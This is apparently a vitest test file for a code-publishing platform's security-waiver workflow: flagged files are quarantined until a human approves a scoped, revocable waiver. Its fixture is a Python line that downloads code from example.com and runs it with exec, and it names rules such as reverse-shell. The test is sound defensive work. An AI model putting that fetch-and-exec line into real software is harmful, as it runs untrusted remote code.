import { beforeEach, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { dag, makeWorld } from '../../../test/support/publishing-world.ts';
import { type ApprovedRequest, requestApproval } from '../../approvals/contract.ts';
import type { CallOperation } from '../../shared/call-operation.ts';
import { ChecksChanged, securityWaiver } from '../contract.ts';
import { requestWaiver } from './request-waiver.ts';
import { revokeWaiver } from './revoke-waiver.ts';
import { waiveFinding } from './waive-finding.ts';

const threat = "import requests\nexec(requests.get('https://example.com/x').text)\n";
const threatening = (comment = '') => `${threat}${dag('a', comment)}`;
const rules = ['downloaded-code', 'import-network'];

const Asked = z.object({ kind: z.literal(securityWaiver.id), ask: securityWaiver.ask, reason: z.string() });

let world: ReturnType<typeof makeWorld>;
let asked: z.infer<typeof Asked>[];
let changed: ChecksChanged[];
beforeEach(() => {
  world = makeWorld();
  asked = [];
  changed = [];
});

const request = (input: { path: string; rules: string[] }) => {
  const callRepositories: CallOperation = async () => ({ id: 'sales-1' }) as never;
  const callApprovals: CallOperation = async (operation, wish) => {
    expect(operation).toBe(requestApproval);
    asked.push(Asked.parse(wish));
    return {} as never;
  };
  const operation = requestWaiver({ artefacts: world.artefacts, callRepositories, callApprovals });
  return operation({ repository: 'company/sales', reason: 'our server', wait: '7d', ...input }, world.call());
};

const approve = (approval = 'a-1', ask: Record<string, unknown> = asked.at(-1)?.ask ?? {}) => {
  const approved: ApprovedRequest = {
    tenant: 'acme',
    approval,
    kind: securityWaiver.id,
    ask,
    reason: 'our server',
    requestedBy: 'kim@example.com',
    decision: { by: 'lee@example.com', via: 'navigator', at: '2026-01-02T00:00:00.000Z' },
  };
  const putEvents = async (_source: string, _type: string, events: readonly unknown[]) =>
    void changed.push(...events.map((event) => ChecksChanged.parse(event)));
  return waiveFinding({ waiversOf: () => world.waivers, putEvents })(approved);
};

const revoke = (waiver = 'a-1') =>
  revokeWaiver({ waiversOf: () => world.waivers })({ repository: 'company/sales', waiver }, world.call());

const outcomeOf = async (files: Record<string, string>, path = 'a.py') => (await world.push(files)).outcomes[path];

describe('a security waiver', () => {
  it('is asked for with what the check says, for what the file is now', async () => {
    expect(await outcomeOf({ 'a.py': threatening() })).toMatchObject({ outcome: 'quarantined' });
    await request({ path: 'a.py', rules });
    const [wish] = asked;
    expect(wish?.ask).toMatchObject({ repository: 'company/sales', path: 'a.py', rules });
    expect(new Set(wish?.ask.findings.map(({ rule }) => rule))).toEqual(new Set(rules));
    expect(securityWaiver.describe(wish?.ask ?? ({} as never)).what).toMatch(
      /Waive downloaded-code, import-network for a.py of company\/sales as it is in commit \w{7}: line 2/,
    );
  });

  it('lets that very file go live, and the receipt says who approved it and why', async () => {
    await world.push({ 'a.py': threatening() });
    await request({ path: 'a.py', rules });
    await approve();
    expect(changed).toMatchObject([{ of: { repository: 'company/sales' }, tenant: 'acme' }]);
    const outcome = await outcomeOf({ 'a.py': threatening() });
    expect(outcome?.outcome).toBe('live');
    const waived = outcome?.findings.filter(({ rule }) => rules.includes(rule)) ?? [];
    expect(waived.length).toBeGreaterThanOrEqual(2);
    for (const finding of waived) {
      expect(finding).toMatchObject({
        severity: 'info',
        waived: 'our server',
        approved: { by: 'lee@example.com', approval: 'a-1' },
      });
    }
    expect((await outcomeOf({ 'a.py': threatening('changed') }))?.outcome).toBe('quarantined');
  });

  it('is of the rules that were approved, not of others', async () => {
    await world.push({ 'a.py': threatening() });
    await request({ path: 'a.py', rules });
    const [wish] = asked;
    await approve('a-1', { ...wish?.ask, rules: ['downloaded-code'] });
    const outcome = await outcomeOf({ 'a.py': threatening() });
    expect(outcome?.outcome).toBe('quarantined');
    expect(securityWaiver.ask.safeParse({ ...wish?.ask, rules: ['reverse-shell'] }).success).toBe(false);
  });

  it('of a module lets the workflow go live that imports it', async () => {
    const files = { 'helper.py': threat, 'a.py': `import helper\n${dag('a')}` };
    expect((await outcomeOf(files))?.findings).toMatchObject([{ rule: 'broken-import' }]);
    await request({ path: 'helper.py', rules });
    await approve();
    expect((await outcomeOf(files))?.outcome).toBe('live');
  });

  it('that is approved twice is one, and one that was revoked meanwhile stays revoked', async () => {
    await world.push({ 'a.py': threatening() });
    await request({ path: 'a.py', rules });
    await approve();
    await approve();
    expect(await world.waivers.read('company/sales')).toHaveLength(1);
    await revoke();
    await approve();
    expect((await outcomeOf({ 'a.py': threatening() }))?.outcome).toBe('quarantined');
    await expect(revoke()).rejects.toThrow(/no waiver a-1 that is in force/);
  });

  it.each([
    ['a file that is not kept back', { path: 'b.py', rules }, /keeps b.py back for no security finding. It does: a.py/],
    ['a rule that it does not break', { path: 'a.py', rules: ['reverse-shell'] }, /does not break reverse-shell, but/],
  ])('is not asked for %s', async (_name, input, why) => {
    await world.push({ 'a.py': threatening(), 'b.py': dag('b') });
    await expect(request(input)).rejects.toThrow(why);
    expect(asked).toEqual([]);
  });

  it('is not asked for before anything was pushed', async () => {
    await expect(request({ path: 'a.py', rules })).rejects.toThrow(/Push it first/);
  });
});
